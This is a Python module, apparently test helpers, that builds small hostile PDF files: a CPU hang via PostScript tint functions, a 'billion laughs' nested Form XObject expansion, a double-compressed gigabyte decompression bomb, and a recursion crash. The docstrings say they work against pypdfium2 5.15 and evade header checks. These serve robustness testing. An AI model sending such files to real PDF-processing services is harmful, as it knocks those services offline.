"""Small PDF files that cost their reader dearly: time, memory or the process itself.

Each was seen to do so with pypdfium2 5.15. They keep to the syntax of PDF 1.7, so no look at the header or
the cross-reference table gives them away.
"""

from __future__ import annotations

import zlib

from tests.tools.raw_pdf import FIRST_FREE, GREETING, deflated, page_pdf, repeated_zlib, stream

MEBIBYTE = 1 << 20


def hang(operators: int = 100_000, colours: int = 1_000_000) -> bytes:
    """Burns a processor for many minutes and hardly any memory.

    Setting a colour evaluates the tint function of its colour space: a million colours, each through a
    PostScript calculator of 300,000 operations.
    """
    tint = deflated(b"{ " + b"dup mul sqrt " * operators + b"}", b"/FunctionType 4 /Domain [0 1] /Range [0 1]")
    content = deflated(GREETING + b"/C cs " + b"0.5 sc " * colours)
    space = b"/ColorSpace << /C [/Separation /Spot /DeviceGray %d 0 R] >>" % FIRST_FREE
    return page_pdf(b"", space, [tint, content], b"%d 0 R" % (FIRST_FREE + 1))


def billion_laughs(levels: int = 10, draws: int = 10) -> bytes:
    """Form XObjects that each draw the next one ``draws`` times: text and no end of it.

    Time and memory grow as ``draws ** (levels - 1)``; seven levels already take 10 s and 1.7 GB.
    """
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %b >>"
    forms = [
        stream(b"/X Do " * draws, form % (b"/XObject << /X %d 0 R >>" % number))
        for number in range(FIRST_FREE + 1, FIRST_FREE + levels)
    ]
    forms.append(stream(b"BT /F 12 Tf 72 700 Td (skills) Tj ET", form % b"/Font << /F 5 0 R >>"))
    return page_pdf(GREETING + b"/X Do", b"/XObject << /X %d 0 R >>" % FIRST_FREE, forms)


def memory(gibibytes: int = 4) -> bytes:
    """A page whose content expands to ``gibibytes`` of blanks.

    Compressed twice, because once gains no more than a factor of a thousand; in streams of one GiB each,
    because pdfium expands no single stream beyond that.
    """
    blanks = zlib.compress(repeated_zlib(b" " * MEBIBYTE, 1024), 9)
    bombs = [stream(blanks, b"/Filter [/FlateDecode /FlateDecode]")] * gibibytes
    references = b" ".join(b"%d 0 R" % (FIRST_FREE + number) for number in range(gibibytes))
    return page_pdf(GREETING, more=bombs, contents=b"[4 0 R %b]" % references)


def crash(depth: int = 40_000) -> bytes:
    """Ends the process by SIGSEGV: pdfium loads tint functions, each stitched from the next, by recursion.

    10,000 levels fit in the usual stack of 8 MiB, 30,000 do not.
    """
    functions = [
        b"<</FunctionType 3/Domain[0 1]/Functions[%d 0 R]/Bounds[]/Encode[0 1]>>" % number
        for number in range(FIRST_FREE + 1, FIRST_FREE + depth)
    ]
    functions.append(b"<</FunctionType 2/Domain[0 1]/N 1>>")
    space = b"/ColorSpace << /C [/Separation /Spot /DeviceGray %d 0 R] >>" % FIRST_FREE
    return page_pdf(GREETING + b"/C cs 0.5 sc", space, functions)
